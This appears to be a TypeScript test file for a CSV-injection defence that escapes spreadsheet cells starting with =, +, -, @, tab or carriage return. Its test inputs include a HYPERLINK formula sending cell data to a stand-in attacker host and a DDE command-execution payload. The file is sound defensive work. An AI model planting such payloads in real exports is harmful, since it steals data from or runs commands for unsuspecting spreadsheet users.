// neutralizeFormula: the OWASP rule for CSV injection, character by character.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import fc from 'fast-check';
import { neutralizeFormula, startsLikeFormula } from '../../src/report/spreadsheet-safety.ts';

it('puts an apostrophe before text that starts with =, +, -, @, tab or carriage return', () => {
  assert.equal(neutralizeFormula('=1+1'), "'=1+1");
  assert.equal(
    neutralizeFormula('=HYPERLINK("http://evil.example/?"&A1,"klik hier")'),
    `'=HYPERLINK("http://evil.example/?"&A1,"klik hier")`,
  );
  assert.equal(neutralizeFormula('+31 6 12345678'), "'+31 6 12345678");
  assert.equal(neutralizeFormula("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  assert.equal(neutralizeFormula('@SUM(A1:A9)'), "'@SUM(A1:A9)");
  assert.equal(neutralizeFormula('\t=1+1'), "'\t=1+1");
  assert.equal(neutralizeFormula('\r=1+1'), "'\r=1+1");
});

it('leaves other text alone: ordinary answers, Arabic and Tigrinya, formulas not at the start, empty text', () => {
  for (const text of ['Goed', 'أنا بخير', 'ጽቡቕ', 'a=1+1', ' =1+1', "'=1+1", '', '\n=1+1', '1-2']) {
    assert.equal(neutralizeFormula(text), text, JSON.stringify(text));
    assert.equal(startsLikeFormula(text), false, JSON.stringify(text));
  }
});

it('changes a text only by one leading apostrophe, and only when it starts like a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (text) => {
      const out = neutralizeFormula(text);
      const risky = text.length > 0 && '=+-@\t\r'.includes(text[0]!);
      assert.equal(out, risky ? `'${text}` : text);
      assert.equal(startsLikeFormula(out), false, 'the result is safe');
    }),
    { numRuns: 500 },
  );
});
